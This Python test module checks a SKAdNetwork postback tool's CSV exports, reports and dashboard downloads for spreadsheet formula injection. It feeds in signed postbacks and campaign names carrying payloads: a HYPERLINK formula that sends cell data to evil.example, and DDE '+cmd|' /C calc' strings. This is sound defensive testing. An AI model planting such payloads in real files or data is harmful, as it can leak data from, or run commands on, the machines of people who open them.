"""Issue 32's CSV formula-injection case for Benchmarks/faults.py: cells a spreadsheet would run as a formula.

  csv  Postbacks signed by the simulated Apple key whose text fields begin with a formula character
       (`ad-network-id` =HYPERLINK(...), `source-domain` +... and @..., `country-code` -...), the same postback again
       with another country code (a conflict), refused bodies beginning with = + - @, a tab and a CR, and a campaign
       map whose names begin with them; then every CSV the project writes from them: `skan export`, `skan export
       --rejected`, `skan export --conflicts`, `skan report --by ...,campaign-name,ad-set,creative`, `skan campaigns
       list`, and `/report.csv?by=ad-network,source,country` of `skan dashboard` and of `skan serve
       --dashboard-port`. A cell beginning with = + - @, a tab or a CR that is not a
       number is a formula cell: there must be none; each CSV must also carry neutralised cells (`'=...`), and the
       same CSV raw (`--csv-raw`, `?raw=1`) must carry the formula cells, so that the check is seen to bite.

Loopback only; a few dozen requests.
"""
import base64, csv, io, json, os, re, subprocess, uuid

import faults_listeners

HOST = "127.0.0.1"
SEPARATOR = "\u2063"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

# What a campaign manager's spreadsheet would run, one per formula character.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def signed_postback(key, network, source_identifier, country=None, domain=None, transaction=None):
    """A 4.0 postback signed by `key` (the simulated Apple key): `network` and `domain` are signed, `country` not."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import ec
    postback = {"version": "4.0", "ad-network-id": network, "source-identifier": source_identifier,
                "app-id": 525463029, "transaction-id": transaction or str(uuid.uuid4()), "redownload": False,
                "fidelity-type": 1, "did-win": True, "postback-sequence-index": 0, "conversion-value": 7}
    if domain is None:
        postback["source-app-id"] = 1234567891
    else:
        postback["source-domain"] = domain
    signed = SEPARATOR.join([postback["version"], network, source_identifier, str(postback["app-id"]),
                             postback["transaction-id"], "false", domain if domain is not None else "1234567891",
                             "1", "true", "0"])
    postback["attribution-signature"] = base64.b64encode(key.sign(signed.encode(), ec.ECDSA(hashes.SHA256()))).decode()
    if country is not None:
        postback["country-code"] = country
    return json.dumps(postback, separators=(",", ":")).encode()


def post(port, body):
    """The status of one POST /postbacks on a fresh connection."""
    raw = (f"POST /postbacks HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
           f"Content-Length: {len(body)}\r\n\r\n").encode() + body
    return faults_listeners._status(port, raw, timeout=10)


def get(port, path):
    """The body of one GET, or None."""
    import http.client
    try:
        connection = http.client.HTTPConnection(HOST, port, timeout=30)
        connection.request("GET", path)
        response = connection.getresponse()
        body = response.read()
        connection.close()
        return body if response.status == 200 else None
    except OSError:
        return None


def formula_cells(text):
    """(records, cells a spreadsheet would run as a formula, cells neutralised with a leading ')."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    formulas = [c for row in rows for c in row if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    neutralised = [c for row in rows for c in row if c.startswith("'") and c[1:].startswith(FORMULA_START)]
    return len(rows), formulas, neutralised


def case_csv(folder, root, binary, report, log):
    from cryptography.hazmat.primitives import serialization
    log("\n[csv] formula cells in every CSV: postbacks, refusals, a conflict and campaign names beginning with "
        "= + - @ (tab, CR), then export, export --rejected, export --conflicts, report, campaigns list, /report.csv")
    with open(os.path.join(root, "Keys/test/simulated-apple-p256-private-key.pem"), "rb") as f:
        key = serialization.load_pem_private_key(f.read(), password=None)
    twice = str(uuid.uuid4())
    postbacks = [
        signed_postback(key, HYPERLINK, "5239", country=MINUS),
        signed_postback(key, "example.skadnetwork", "5239", domain=CALC, country="US"),
        signed_postback(key, "example.skadnetwork", "5239", domain=AT, country=AT, transaction=twice),
    ]
    # The same signed postback with another unsigned country code: kept as a conflict (postback_repeats).
    conflict = signed_postback(key, "example.skadnetwork", "5239", domain=AT, country=HYPERLINK, transaction=twice)
    refused = [HYPERLINK.encode(), CALC.encode(), MINUS.encode(), AT.encode(), b"\t=1+1", b"\r=1+1",
               b'{"version":"=HYPERLINK(\\"http://evil.example\\")"}']
    serve = faults_listeners.start("serve", folder, root, binary, ["--log-level", "warning"], name="csv")
    db = os.path.join(folder, "csv.sqlite")
    statuses = [post(serve.ports["device"], body) for body in postbacks + [conflict] + refused]
    campaigns = os.path.join(folder, "csv-campaigns.csv")
    with open(campaigns, "w", newline="") as f:
        writer = csv.writer(f, lineterminator="\r\n")
        writer.writerow(["ad_network_id", "source_identifier", "campaign_id", "valid_from", "valid_to", "campaign",
                         "ad_set", "creative", "country"])
        writer.writerow(["example.skadnetwork", "5239", "", "", "", HYPERLINK, CALC, MINUS, AT])
    imported = subprocess.run([binary, "campaigns", "import", "--db", db, campaigns], capture_output=True, text=True)
    by = "ad-network,source,country,campaign-name,ad-set,creative"
    csvs = {}  # name -> (safe text, raw text)

    def command(*args):
        run = lambda extra: subprocess.run([binary, *args, *extra], capture_output=True, text=True).stdout
        return run([]), run(["--csv-raw"])

    try:
        csvs["export"] = command("export", "--db", db)
        csvs["export --rejected"] = command("export", "--db", db, "--rejected")
        csvs["export --conflicts"] = command("export", "--db", db, "--conflicts")
        csvs["report"] = command("report", "--db", db, "--by", by, "--format", "csv")
        csvs["campaigns list"] = (subprocess.run([binary, "campaigns", "list", "--db", db], capture_output=True,
                                                 text=True).stdout, None)
        # The dashboard's report.csv groups by the stored values only (no campaign names: its pages name them).
        path = "/report.csv?by=ad-network,source,country"
        fetch = lambda port: tuple((get(port, p) or b"").decode() for p in (path, path + "&raw=1"))
        csvs["serve --dashboard-port /report.csv"] = fetch(serve.ports["serve-dashboard"])
    finally:
        serve.stop()
    dashboard = faults_listeners.Proc(folder, "csv-dashboard", [binary, "dashboard", "--db", db, "--host", HOST,
                                                                  "--port", "0", "--log-level", "warning"], ["dashboard"])
    try:
        csvs["dashboard /report.csv"] = fetch(dashboard.ports["dashboard"])
    finally:
        dashboard.stop()
    log(f"  posted: statuses {statuses}; campaigns import exit {imported.returncode} {imported.stderr.strip()[:200]}")
    for name, (safe, raw) in csvs.items():
        records, formulas, neutralised = formula_cells(safe)
        raw_formulas = formula_cells(raw)[1] if raw is not None else None
        figures = (f"{records} records; formula cells {len(formulas)} {formulas[:3]}; neutralised {len(neutralised)} "
                   f"{neutralised[:2]}; raw: "
                   + ("no raw mode" if raw is None else f"formula cells {len(raw_formulas)}"))
        held = (records > 1 and not formulas and len(neutralised) > 0
                and (raw_formulas is None or len(raw_formulas) >= len(neutralised)))
        report(f"csv formula cells ({name})", held, figures)
